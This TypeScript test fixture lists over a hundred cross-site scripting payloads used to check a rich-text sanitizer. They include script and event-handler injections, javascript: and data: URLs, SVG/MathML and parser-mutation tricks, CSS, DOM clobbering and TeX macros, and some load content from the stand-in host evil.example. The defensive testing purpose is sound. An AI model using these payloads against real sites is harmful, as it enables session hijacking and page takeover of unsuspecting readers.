/** The effect of each text if it ran: it opens a dialog and sets a global. */
const run = 'hacked=alert(1)';
/** A host that no page may ask for anything. */
export const foreignHost = 'evil.example';
const away = `https://${foreignHost}`;
const base64 = (text: string): string => Buffer.from(text).toString('base64');
const hostileSvg = `<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"><script>${run}</script><image href="${away}/i.png"/></svg>`;
const onError = `<img src=x onerror=${run}>`;

const scripts: readonly string[] = [
  `<script>${run}</script>`,
  `<SCRIPT SRC=${away}/x.js></SCRIPT>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<script/x>${run}</script>`,
  `<<script>${run}//<</script>`,
  `<script>/*</p>*/${run}</script >`,
  `<scr\u0000ipt>${run}</scr\u0000ipt>`,
  `<table><tr><td><script>${run}</script></td></tr></table>`,
];

const handlers: readonly string[] = [
  onError,
  `<img src=x onerror=${run} `,
  `<img/src=x/onerror=${run}>`,
  `<img src=x\nonerror\n=\n"${run}">`,
  `<IMG SRC=x OnErRoR="${run}">`,
  `<img """><script>${run}</script>">`,
  `<img src=\`x\`onerror=${run}>`,
  `<p onclick="${run}" onfocus="${run}" tabindex="0" autofocus>p</p>`,
  `<td onpointerenter=${run}>cell</td>`,
  `<a href="https://example.org" onmouseover="${run}">link</a>`,
  `<details open ontoggle="${run}">d</details>`,
  `<video autoplay onloadstart="${run}"><source src=x onerror="${run}"></video>`,
  `<audio src=x onerror="${run}"></audio>`,
  `<body onload="${run}" onpageshow="${run}">b</body>`,
  `<input autofocus onfocus="${run}">`,
  `<select autofocus onfocus="${run}"><option>o</select>`,
  `<marquee onstart="${run}">m</marquee>`,
  `<div lang="en" onanimationstart="${run}" style="animation:x 1s">d</div>`,
  `<x-element onclick="${run}" is="x-button">e</x-element>`,
];

const addresses: readonly string[] = [
  `<a href="javascript:${run}">a</a>`,
  `<a href="JaVaScRiPt:${run}">a</a>`,
  `<a href="java&#9;script:${run}">a</a>`,
  `<a href="java\nscript:${run}">a</a>`,
  `<a href="&#106;&#x61;vascript&colon;${run}">a</a>`,
  `<a href="\u0001 javascript:${run}">a</a>`,
  `<a href="vbscript:${run}">a</a>`,
  `<a href="data:text/html;base64,${base64(`<script>${run}</script>`)}">a</a>`,
  `<a href="data:image/svg+xml;base64,${base64(hostileSvg)}">a</a>`,
  `<a href="//${foreignHost}/x">a</a>`,
  String.raw`<a href="\\${foreignHost}\x">a</a>`,
  `<a href="/\\${foreignHost}/x">a</a>`,
  `<a href="https://example.org" ping="${away}/ping" target="_top" download>a</a>`,
  `<img src="javascript:${run}">`,
  `<img src="data:text/html,<script>${run}</script>">`,
  `<img src="data:image/svg+xml;base64,${base64(hostileSvg)}" alt="drawing">`,
  `<img src="data:image/svg+xml,${encodeURIComponent(hostileSvg)}" alt="drawing">`,
  `<img src="${away}/pixel.png">`,
  `<img src="//${foreignHost}/pixel.png">`,
  `<img src="/api/files/../auth/logout">`,
  `<img src="data:image/png;base64,AA==" srcset="${away}/large.png 2x" lowsrc="${away}/low.png" alt="s">`,
  `<picture><source srcset="${away}/p.png"><img src="data:image/png;base64,AA==" alt="p"></picture>`,
  `<input type="image" src="${away}/i.png" formaction="javascript:${run}">`,
  `<table background="${away}/b.png"><tr><td background="${away}/b.png">t</td></tr></table>`,
  `<map name="m"><area shape="default" href="javascript:${run}"></map><img usemap="#m" src="data:image/png;base64,AA==" alt="m">`,
];

const foreignContent: readonly string[] = [
  `<svg onload=${run}></svg>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><script href="data:text/javascript,${run}"/></svg>`,
  `<svg><animate onbegin="${run}" attributeName="x" dur="1s"></svg>`,
  `<svg><a xlink:href="javascript:${run}"><text y="9">a</text></a></svg>`,
  `<svg><a><animate attributeName="href" values="javascript:${run}"/><text y="9">a</text></a></svg>`,
  `<svg><use href="data:image/svg+xml;base64,${base64(hostileSvg)}#x"/></svg>`,
  `<svg><foreignObject>${onError}</foreignObject></svg>`,
  `<svg><image href="${away}/i.png"/><style>@import url(${away}/s.css);</style></svg>`,
  `<math href="javascript:${run}"><mi>x</mi></math>`,
  `<math><maction actiontype="statusline" xlink:href="javascript:${run}"><mtext>m</mtext></maction></math>`,
  `<math><annotation-xml encoding="text/html">${onError}</annotation-xml></math>`,
];

const styles: readonly string[] = [
  `<p style="width:expression(${run})">p</p>`,
  `<p style="background:url(javascript:${run})">p</p>`,
  `<p style="background-image:url(${away}/b.png)">p</p>`,
  `<p style="position:fixed;inset:0;z-index:9999">over the page</p>`,
  `<style>@import '${away}/s.css'; body{background:url(${away}/b.png)}</style>`,
  `<style onload="${run}">p{}</style>`,
  `<link rel="stylesheet" href="${away}/s.css"><link rel="prefetch" href="${away}/p">`,
  `<p class="btn danger" id="root" name="cookie">p</p>`,
];

const structures: readonly string[] = [
  `<template>${onError}</template>`,
  `<div><template shadowrootmode="open">${onError}</template></div>`,
  `<base href="${away}/">`,
  `<meta http-equiv="refresh" content="0;url=${away}/">`,
  `<form action="${away}/"><button formaction="javascript:${run}">send</button></form>`,
  `<form id="getElementById"><input name="body"><img name="cookie" src="data:image/png;base64,AA=="></form>`,
  `<iframe src="${away}/"></iframe>`,
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<object data="${away}/o"></object><embed src="javascript:${run}">`,
  `<frameset onload="${run}"><frame src="javascript:${run}"></frameset>`,
  `<a id="location" href="https://example.org">a</a><a id="location" name="href">b</a>`,
  `<dialog open>d</dialog><p popover contenteditable accesskey="s">p</p>`,
];

/** Texts that are read differently when they are parsed again, or by another parser. */
const mutations: readonly string[] = [
  `<noscript><p title="</noscript>${onError}">p</p></noscript>`,
  `<style><p title="</style>${onError}"></style>`,
  `<xmp><p title="</xmp>${onError}">p</p></xmp>`,
  `<textarea><p title="</textarea>${onError}">p</p></textarea>`,
  `<title><p title="</title>${onError}">p</p></title>`,
  `<iframe><p title="</iframe>${onError}">p</p></iframe>`,
  `<p title="</p>${onError}">p</p>`,
  `<img alt="</p><script>${run}</script>" src="data:image/png;base64,AA==">`,
  `<svg></p><style><a id="</style>${onError}">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math>${onError}`,
  `<math><mtext><table><mglyph><style><math><table id="</table>"><img src onerror=${run}">`,
  `<!-->${onError}-->`,
  `<!--<p title="-->${onError}">`,
  `<![CDATA[${onError}]]>`,
  `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e "${onError}">]>&e;`,
  `<plaintext>${onError}`,
  `<p><a href="https://example.org/?a="${onError}">a</a>`,
  `<em><table><p></em>${onError}`,
  `<ul><li><p><table><li>${onError}</table>`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `&amp;lt;img src=x onerror=${run}&amp;gt;`,
  `&#60;img src=x onerror=${run}&#62;`,
  `<a href="https://example.org`,
  `</p></div></main></body>${onError}`,
];

const formulas: readonly string[] = [
  String.raw`$\href{javascript:${run}}{x}$`,
  String.raw`$\url{javascript:${run}}$`,
  String.raw`$\htmlData{a=1, onclick=${run}}{x}$`,
  String.raw`$\htmlStyle{position:fixed; background:url(${away}/b.png)}{x}$`,
  String.raw`$\htmlClass{danger}{x} \htmlId{root}{y}$`,
  String.raw`$\includegraphics{${away}/pixel.png}$`,
  String.raw`$\def\a{\a\a}\a$`,
  String.raw`$\rule{99999em}{99999em}$`,
  `$${onError}$`,
  String.raw`$\text{&lt;img src=x onerror=${run}&gt;}$`,
  `\\(${onError}\\)`,
  `$$<script>${run}</script>$$`,
];

/** Attacks on the readers of a rich text; see `dangersIn` for what must be left of them. */
export const hostileTexts: readonly string[] = [
  ...scripts,
  ...handlers,
  ...addresses,
  ...foreignContent,
  ...styles,
  ...structures,
  ...mutations,
  ...formulas,
];
